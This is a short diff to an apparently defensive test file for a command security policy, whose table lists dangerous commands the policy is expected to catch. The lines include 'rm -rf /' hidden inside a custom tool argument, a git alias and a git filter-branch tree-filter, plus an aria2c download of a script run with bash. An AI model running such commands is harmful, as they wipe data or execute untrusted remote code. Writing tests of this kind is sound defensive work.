@@ -340,3 +340,5 @@ Feature: Security policy - targets known only at run time
       | command |
       | mytool -c 'rm -rf /' |
       | aria2c https://example.com/i.sh && bash i.sh |
+      | git x 'rm -rf /' |
+      | git filter-branch --tree-filter 'rm -rf /' HEAD |
